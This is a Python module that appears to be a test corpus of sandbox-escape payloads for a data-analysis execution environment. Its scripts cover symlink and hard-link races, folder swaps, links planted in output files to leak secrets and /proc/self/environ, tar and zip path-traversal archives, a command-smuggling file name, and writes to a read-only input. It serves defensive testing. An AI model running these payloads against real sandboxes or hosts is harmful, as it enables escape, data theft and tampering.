"""Links and races over files."""

from tests.escapes.corpus import NATIVE, TRY, Payload

ALIVE = "print('alive')"

PAYLOADS: list[Payload] = [
    Payload("link races", "symbolic links to everything outside", (TRY, r"""
import os
tmp = os.environ.get("TMPDIR", "/tmp")
for number, goal in enumerate(("{{SECRET}}", "{{TARGET}}", "{{TARGETDIR}}", "/", "/proc/{{PID}}/root", "/proc/self/root",
                               "../../../../../..{{SECRET}}")):
    link = f"{tmp}/link{number}"
    attempt("make", os.symlink, goal, link)
    attempt("read", lambda: open(link).read())
    attempt("below", lambda: open(link + "{{SECRET}}").read())
    attempt("write", lambda: open(link, "a").write("owned"))
    attempt("list", lambda: os.listdir(link)[:20])
    attempt("chmod", os.chmod, link, 0o777)
""")),
    Payload("link races", "hard links to what may not be opened", (TRY, r"""
import os
tmp = os.environ.get("TMPDIR", "/tmp")
for number, goal in enumerate(("{{SECRET}}", "{{TARGET}}", "/proc/{{PID}}/exe", "data.csv", "/proc/self/exe")):
    link = f"{tmp}/hard{number}"
    attempt("make", os.link, goal, link)
    attempt("read", lambda: open(link).read()[:500])
    if "{{TARGET}}" == goal:
        attempt("write", lambda: open(link, "a").write("owned"))
    attempt("follow", lambda: os.link(goal, link + "f", follow_symlinks=True))
""")),
    Payload("link races", "a file swapped for a link while it is read", (TRY, r"""
import os, pandas, threading, time
tmp = os.environ.get("TMPDIR", "/tmp")
stop = time.time() + 2
def swap():
    while time.time() < stop:
        try:
            os.symlink("{{SECRET}}", tmp + "/s"); os.replace(tmp + "/s", tmp + "/race")
            open(tmp + "/p", "w").close(); os.replace(tmp + "/p", tmp + "/race")
        except OSError:
            pass
threading.Thread(target=swap, daemon=True).start()
while time.time() < stop:
    for read in (lambda: open(tmp + "/race").read(), lambda: pandas.read_csv(tmp + "/race", header=None).to_string()):
        try:
            text = read()
            if text:
                print(text)
        except Exception:
            pass
""",)),
    Payload("link races", "folders swapped during a walk", (NATIVE, r"""
import threading, time
tmp = os.environ.get("TMPDIR", "/tmp")
attempt("a", os.makedirs, tmp + "/a/in")
attempt("b", os.symlink, "{{TARGETDIR}}", tmp + "/b")
stop = time.time() + 2
def swap():
    while time.time() < stop:
        try:
            syscall("renameat2", -100, (tmp + "/a").encode(), -100, (tmp + "/b").encode(), 2)
        except OSError:
            return
threading.Thread(target=swap, daemon=True).start()
while time.time() < stop:
    for name in ("a", "b"):
        try:
            open(f"{tmp}/{name}/owned", "w").write("owned")
            print(os.listdir(f"{tmp}/{name}/..")) if "owned" in os.listdir("{{TARGETDIR}}") else None
        except OSError:
            pass
""")),
    Payload("link races", "links left where the host may collect files", (TRY, r"""
import os
tmp = os.environ.get("TMPDIR", "/tmp")
for folder in (tmp, ".", "/tmp", os.path.expanduser("~")):
    for name in ("result.png", "chart.png", "chart.json", "plot.svg", "out.csv", "output.json", "result.json", "stdout",
                 "stderr", "report.html", "table.parquet"):
        attempt(name, os.symlink, "{{SECRET}}", f"{folder}/{name}")
    attempt("out", os.symlink, "{{TARGETDIR}}", folder + "/output")
    attempt("loop", os.symlink, folder + "/loop", folder + "/loop")
    attempt("proc", os.symlink, "/proc/self/environ", folder + "/environ.txt")
""", "print(open('chart.json').read())")),
    Payload("link races", "pipes, sockets and devices where files are looked for", (TRY, r"""
import os, socket
tmp = os.environ["TMPDIR"]
for name in ("result.png", "out.csv", "chart.json", "report.html"):
    attempt("fifo", os.mkfifo, f"{tmp}/{name}")
attempt("zero", os.mknod, tmp + "/zero", 0o20666, os.makedev(1, 5))
attempt("link", os.symlink, "/dev/zero", tmp + "/endless.csv")
attempt("socket", lambda: socket.socket(1).bind(tmp + "/plot.png"))
attempt("mode", os.chmod, tmp, 0)
""", ALIVE)),
    Payload("link races", "names that leave by themselves", (TRY, r"""
import os, tarfile, zipfile, io
tmp = os.environ.get("TMPDIR", "/tmp")
for name in ("..", "../owned", "-rf", "\n", "a\0b", "x" * 255, "{{TARGET}}", "CON", ".bashrc", "%2e%2e%2fowned", "\udcff",
             "; touch {{TARGETDIR}}/owned"):
    attempt(repr(name), lambda: open(os.path.join(tmp, name), "a").write("owned")
            if name != "{{TARGET}}" else open(name, "a").write("owned"))
def slip(kind):
    box = io.BytesIO()
    if kind == "tar":
        with tarfile.open(fileobj=box, mode="w") as archive:
            info = tarfile.TarInfo("../" * 30 + "{{TARGETDIR}}/owned".lstrip("/")); info.size = 5
            archive.addfile(info, io.BytesIO(b"owned"))
            link = tarfile.TarInfo("l"); link.type = tarfile.SYMTYPE; link.linkname = "{{TARGETDIR}}"; archive.addfile(link)
            info = tarfile.TarInfo("l/owned2"); info.size = 5; archive.addfile(info, io.BytesIO(b"owned"))
        box.seek(0)
        return tarfile.open(fileobj=box).extractall(tmp)
    with zipfile.ZipFile(box, "w") as archive:
        archive.writestr("../" * 30 + "{{TARGETDIR}}/owned".lstrip("/"), "owned")
    return zipfile.ZipFile(box).extractall(tmp)
attempt("tar", slip, "tar"); attempt("zip", slip, "zip")
""")),
    Payload("session files", "the read-only input written", (TRY, r"""
import mmap, os, shutil
for path in ("data.csv", os.path.abspath("data.csv"), "./data.csv", os.path.realpath("data.csv")):
    attempt("open", lambda: open(path, "a").write("owned"))
    attempt("r+", lambda: open(path, "r+").write("owned"))
    attempt("truncate", os.truncate, path, 0)
    attempt("chmod", os.chmod, path, 0o666)
    attempt("rename", os.rename, path, path + ".old")
    attempt("remove", os.remove, path)
    attempt("replace", lambda: (open(os.environ.get("TMPDIR", "/tmp") + "/d", "w").write("owned"),
                                os.replace(os.environ.get("TMPDIR", "/tmp") + "/d", path)))
    attempt("map", lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=3, flags=1).__setitem__(0, 65))
    attempt("fd", lambda: os.write(os.open("/proc/self/fd/%d" % os.open(path, 0), os.O_WRONLY), b"owned"))
    attempt("utime", os.utime, path)
def check():
    if "owned" in open("data.csv").read():
        broke("input written")
attempt("check", check)
""")),
    Payload("session files", "the folder of the input", (TRY, r"""
import os
here = os.getcwd()
print(here, os.listdir("."), os.stat(".").st_mode)
for name in ("new.csv", "data.csv.bak", ".hidden", "sub/x"):
    attempt(name, lambda: open(name, "w").write("x"))
attempt("rename", os.rename, here, here + "2")
attempt("rmdir", os.rmdir, here)
attempt("up", lambda: os.listdir(".."))
attempt("mode", os.chmod, ".", 0o777)
attempt("mount", lambda: os.path.ismount("."))
""", "import pandas; pandas.read_csv('data.csv').shape")),
    Payload("session files", "data.csv changed between two reads", (TRY, r"""
import os, threading, time
tmp = os.environ.get("TMPDIR", "/tmp")
def churn():
    for _ in range(2000):
        for call in (lambda: os.replace(tmp + "/n", "data.csv"), lambda: os.symlink("{{SECRET}}", "data.csv"),
                     lambda: os.unlink("data.csv")):
            try:
                open(tmp + "/n", "w").write("a,b\n1,2\n"); call()
            except OSError:
                pass
attempt("start", threading.Thread(target=churn, daemon=True).start)
""", "print(open('data.csv').read()[:200])", "import time; time.sleep(0.5); print(open('data.csv').read()[:200])")),
    Payload("session files", "the working folder deleted from under the session", (TRY, r"""
import os
tmp = os.environ["TMPDIR"]
attempt("cd", os.chdir, tmp)
attempt("sub", os.mkdir, "gone"); attempt("cd", os.chdir, "gone"); attempt("rm", os.rmdir, tmp + "/gone")
attempt("cwd", os.getcwd)
""", "import pandas; print(pandas.read_csv('data.csv').shape)", r"""
attempt("tmp", os.rename, tmp, tmp + "-moved")
attempt("tmp", os.rmdir, tmp)
""", ALIVE)),
    Payload("session files", "umask, sticky bits, attributes left behind", (TRY, r"""
import fcntl, os
tmp = os.environ["TMPDIR"]
os.umask(0o777)
attempt("file", lambda: open(tmp + "/locked", "w").write("x"))
attempt("folder", os.mkdir, tmp + "/dark", 0)
attempt("mode", os.chmod, tmp, 0)
attempt("attribute", lambda: fcntl.ioctl(os.open(tmp, 0), 0x40086602, b"\x10\0\0\0\0\0\0\0"))
attempt("xattr", os.setxattr, tmp, "user.x", b"y" * 60000)
""", ALIVE)),
]
